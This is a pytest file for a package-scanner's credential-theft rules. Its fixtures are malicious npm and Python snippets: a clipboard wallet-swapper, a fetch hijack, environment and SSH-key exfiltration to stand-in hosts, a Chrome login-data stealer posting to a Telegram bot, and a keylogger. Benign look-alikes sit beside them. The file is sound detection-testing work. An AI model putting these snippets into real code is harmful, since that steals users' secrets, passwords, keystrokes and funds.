"""Secrets, clipboards, wallets and keystrokes."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.material import Ecosystem
from adapters.sigil.local.phases.credentials import credentials
from adapters.sigil.models import PhaseName, Severity

_NPM = {
    "clipboard-wallet": (
        "const clipboard = require('clipboardy');\nsetInterval(async () => { const text = await clipboard.read();\n"
        "if (/^0x[a-fA-F0-9]{40}$/.test(text)) await clipboard.write('0x01') }, 1000)"
    ),
    "wallet-replaced": (
        "const mine = '0x1111111111111111111111111111111111111111';\nconst old = window.fetch;\n"
        "window.fetch = async (...all) => { const answer = await old(...all);\n"
        "return new Response((await answer.text()).replace(/0x[a-fA-F0-9]{40}/g, mine)) }"
    ),
    "environment-leaves": "fetch('https://x.example.invalid/', {method: 'POST', body: JSON.stringify(process.env)})",
}
_PYTHON = {
    "secret-file-leaves": (
        "import os, requests\npath = os.path.expanduser('~/.ssh/id_rsa')\n"
        "requests.post('https://x.example.invalid/k', files={'f': open(path, 'rb')})\n"
    ),
    "secret-file-read": (
        "import os, shutil, sqlite3, requests\ndef go():\n"
        "    path = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        "    shutil.copy2(path, 't.db')\n    rows = sqlite3.connect('t.db').execute('select 1').fetchall()\n"
        "    requests.post('https://api.telegram.org/bot1:A/sendMessage', data={'text': str(rows)})\n"
    ),
    "input-watched": (
        "import requests\nfrom pynput import keyboard\nkeys = []\ndef pressed(key):\n    keys.append(str(key))\n"
        "    requests.post('https://k.example.invalid/', json={'k': keys})\n"
        "keyboard.Listener(on_press=pressed).start()\n"
    ),
}
_TWINS = {
    "copies when asked": "const c = require('clipboardy');\nexports.copy = (text) => c.write(text)",
    "checks addresses": "exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text)",
    "reads one setting": "exports.debug = process.env.DEBUG; fetch('https://api.example.com/')",
    "uses a token when asked": (
        "const token = process.env.EXAMPLE_TOKEN;\n"
        "exports.list = () => fetch('https://api.example.com/v1', {headers: {authorization: token}})"
    ),
    "replaces fetch for old browsers": "if (!window.fetch) window.fetch = require('whatwg-fetch').fetch",
}


@pytest.mark.parametrize("rule", _NPM)
def test_finds_attack_in_javascript(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is required, and is HIGH_RISK by itself."""
    result = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _NPM[rule]}))

    assert rule in result.rules(PhaseName.CREDENTIALS)
    assert result.dangerous


@pytest.mark.parametrize("rule", _PYTHON)
def test_finds_attack_in_python(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is imported, and is HIGH_RISK by itself."""
    result = outcome(pack({"sample/__init__.py": _PYTHON[rule]}, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl"))

    assert rule in result.rules(PhaseName.CREDENTIALS)
    assert result.dangerous


@pytest.mark.parametrize("twin", _TWINS)
def test_twins_are_not_dangerous(pack: Any, outcome: Any, twin: str) -> None:
    """What honest packages do in a similar way is at most a hint."""
    assert outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _TWINS[twin]})).score < 10


def severity_of(rule: str, scanned: Any) -> Severity | None:
    return next((each.severity for each in credentials(scanned) if each.rule == rule), None)


def test_a_clients_token_for_its_service_is_information(made: Any, fact: Callable[..., Fact]) -> None:
    """A named variable that is sent when somebody calls a function is what every client does."""
    token = fact(Behaviour.READS_ENVIRONMENT, "OPENAI_API_KEY", at_load=False)
    flow = Flow(source=token, sink=fact(Behaviour.SENDS, "https://api.openai.com/v1", 2, at_load=False))

    assert severity_of("environment-leaves", made({"index.js": (flow,)})) is Severity.INFO


def test_settings_of_tools_are_no_loot(made: Any, fact: Callable[..., Fact]) -> None:
    """Reading `.npmrc` is a hint; reading a private key at load is grave."""
    read = Behaviour.READS_SECRET_FILE

    assert severity_of("secret-file-read", made({"index.js": (fact(read, "~/.npmrc"),)})) is Severity.LOW
    assert severity_of("secret-file-read", made({"index.js": (fact(read, "~/.ssh/id_rsa"),)})) is Severity.MEDIUM
